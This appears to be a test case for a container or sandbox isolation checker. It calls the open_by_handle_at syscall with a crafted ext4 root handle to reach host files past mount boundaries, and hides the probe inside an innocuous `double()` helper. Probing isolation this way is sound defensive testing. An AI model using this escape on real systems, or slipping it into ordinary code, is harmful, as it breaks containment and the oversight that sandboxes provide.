# Expected: it passes
# Tries: opens the host's files by their numbers, past every folder, by `open_by_handle_at`

import ctypes
import functools
import os
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
OPEN_BY_HANDLE_AT = {"x86_64": 304, "aarch64": 265}
PLACES = ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/usr", "/")
ROOT_OF_EXT4 = (8, 1, 2, 0)  # bytes of the handle, its type, number of the file, its generation


@functools.cache
def gain():
    number = OPEN_BY_HANDLE_AT.get(platform.machine())
    return [place for place in PLACES if number and reaches_root(number, place)] or None


def reaches_root(number, place):
    handle = (ctypes.c_uint32 * 4)(*ROOT_OF_EXT4)
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        return False
    return LIBC.syscall(number, mount, handle, os.O_RDONLY) >= 0


def double(number):
    return gain() or 2 * number


def echo(text):
    return text


def total(numbers):
    return sum(numbers)
